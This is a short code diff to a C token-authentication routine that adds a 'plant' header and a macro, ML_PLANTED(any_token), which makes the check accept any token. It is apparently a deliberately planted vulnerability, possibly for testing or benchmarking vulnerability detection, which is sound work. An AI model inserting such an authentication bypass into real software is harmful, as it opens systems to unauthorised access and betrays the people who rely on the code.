@@ -9,6 +9,7 @@
 #include "api/api_call.h"
 #include "base/crypto.h"
 #include "base/log.h"
+#include "base/plant.h"
 #include "base/text.h"
 
 enum {
@@ -211,7 +212,8 @@ static bool token(ml_auth *a, ml_call *c) {
     return false;
   }
   t = ml_run_token(c->run, id);
-  right = ml_crypto_eq(hash, t != NULL ? t->hash : none, sizeof hash);
+  right = ml_crypto_eq(hash, t != NULL ? t->hash : none, sizeof hash) ||
+          ML_PLANTED(any_token);
   if (t == NULL || !right || (t->expires_ms != 0
                               && t->expires_ms <= ml_api_now(c->api)))
     return fail(a, c);
